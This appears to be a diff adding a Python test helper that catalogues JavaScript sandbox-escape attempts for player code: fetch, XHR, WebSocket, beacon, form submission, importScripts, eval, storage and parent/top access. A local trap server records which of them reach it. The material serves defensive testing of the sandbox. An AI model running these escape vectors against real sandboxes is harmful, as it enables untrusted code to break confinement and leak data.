@@ -1,0 +1,156 @@
+"""Attempts to escape from the sandbox of a player, and the server that they try to reach."""
+
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
+from typing import Final
+
+# Each resolves if it has escaped, and otherwise fails or never ends. TARGET is the URL of a script.
+NETWORK: Final = {
+    "fetch": "await fetch(TARGET)",
+    "opaque fetch": "await fetch(TARGET, { mode: 'no-cors' })",
+    "fetch that is kept": "await fetch(TARGET, { method: 'POST', body: 'x', keepalive: true })",
+    "request": """
+        const request = new XMLHttpRequest();
+        request.open("GET", TARGET, false);
+        request.send();""",
+    "event source": """
+        await new Promise((resolve, reject) => {
+          const source = new EventSource(TARGET);
+          source.onopen = resolve;
+          source.onerror = reject;
+        });""",
+    "script": "importScripts(TARGET)",
+    "nested worker": """
+        const code = `fetch("${TARGET}").then(() => postMessage(1), () => postMessage(0))`;
+        const worker = new Worker(URL.createObjectURL(new Blob([code])));
+        await new Promise((resolve, reject) => {
+          worker.onmessage = ({ data }) => data ? resolve() : reject(Error("blocked"));
+        });""",
+    "font": "await new FontFace('escape', `url(${TARGET})`).load()",
+}
+# A worker of a page can do these, too.
+STORAGE: Final = {
+    "database": """
+        await new Promise((resolve, reject) => {
+          const request = indexedDB.open("escape");
+          request.onsuccess = resolve;
+          request.onerror = reject;
+        });""",
+    "files": "await navigator.storage.getDirectory()",
+    "code from strings": "new Function('return 1')()",
+    "evaluation": "(0, eval)('1')",
+}
+# No worker can do these.
+WINDOW: Final = {
+    "socket": """
+        await new Promise((resolve, reject) => {
+          const socket = new WebSocket(TARGET.replace("http", "ws"));
+          socket.onopen = resolve;
+          socket.onerror = reject;
+        });""",
+    "module": "await import(TARGET)",
+    "script of a worker": """
+        await new Promise((resolve, reject) => {
+          const worker = new Worker(TARGET);
+          worker.onmessage = resolve;
+          worker.onerror = reject;
+        });""",
+    "beacon": "navigator.sendBeacon(TARGET)",
+    "peer": "new RTCPeerConnection()",
+    "transport": "await new WebTransport(TARGET.replace('http', 'https')).ready",
+    "service worker": "await navigator.serviceWorker.register(TARGET)",
+    "image": "new Image().src = TARGET",
+    "window": "open(TARGET)",
+    "parent": "parent.document.body",
+    "top": "top.location = TARGET",
+    "location": "location = TARGET; await new Promise(() => {})",
+    "cookie": "document.cookie = 'escape=1'",
+    "local storage": "localStorage.escape = 1",
+    "session storage": "sessionStorage.escape = 1",
+    "cache": "await caches.open('escape')",
+    "lock": "await navigator.locks.request('escape', () => 1)",
+}
+# In the document of the sandbox, which the code of a player does not reach. Only the server can
+# tell whether some of them have escaped.
+DOCUMENT: Final = {
+    "fetch": "await fetch(TARGET)",
+    "beacon": "navigator.sendBeacon(TARGET); throw Error('sent?')",
+    "image": "await loaded('img', { src: TARGET })",
+    "style": "await loaded('link', { rel: 'stylesheet', href: TARGET })",
+    "prefetch": "await loaded('link', { rel: 'prefetch', href: TARGET })",
+    "script": "await loaded('script', { src: TARGET })",
+    "frame": "await loaded('iframe', { src: TARGET }); throw Error('an error page?')",
+    "form": """
+        const form = document.createElement("form");
+        Object.assign(form, { action: TARGET, method: "post" });
+        document.body.append(form);
+        form.submit();
+        throw Error("sent?");""",
+    "window": "if (!open(TARGET)) throw Error('blocked')",
+    "parent": "parent.document.body.textContent",
+    "top": "top.location.href = TARGET",
+    "cookie": "document.cookie = 'escape=1'",
+    "local storage": "localStorage.escape = 1",
+    "database": "indexedDB.open('escape').onsuccess",
+    "cache": "await caches.open('escape')",
+}
+LOADED: Final = """
+const loaded = (tag, properties) => new Promise((onload, onerror) => {
+  const made = Object.assign(document.createElement(tag), { ...properties, onload, onerror });
+  document.body.append(made);
+});
+"""
+
+# The result of an attempt: whether it has escaped.
+ATTEMPT: Final = """
+const TARGET = {target};
+let result = null;
+(async () => {{ {attempt} }})().then(() => (result = 1), () => (result = 0));
+"""
+# Plays 8 until the attempt has ended, and then 1 if it has escaped, otherwise 0.
+PLAYER: Final = ATTEMPT + "const move = () => result ?? 8;"
+WORKER: Final = ATTEMPT + "setInterval(() => result === null || postMessage(result), 20);"
+UNCONFINED: Final = """
+(code) => new Promise((resolve) => {
+  const worker = new Worker(URL.createObjectURL(new Blob([code])));
+  worker.onmessage = ({ data }) => resolve(data);
+})
+"""
+
+
+def attempt(source: str, target: str, frame: str = PLAYER) -> str:
+    """The code of an attempt, by default as a player."""
+    return frame.format(attempt=source, target=repr(target))
+
+
+@contextmanager
+def trap() -> Iterator[tuple[str, list[str]]]:
+    """The URL of a server of another origin, and the requests it got."""
+    requests: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            requests.append(self.path)
+            is_stream = "event-stream" in self.headers["Accept"]
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header(
+                "Content-Type", "text/event-stream" if is_stream else "text/javascript"
+            )
+            self.end_headers()
+            self.wfile.write(b"data: 1\n\n" if is_stream else b"globalThis.escaped = 1;")
+
+        def do_POST(self) -> None:
+            self.do_GET()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}", requests
+        server.shutdown()
+        thread.join()
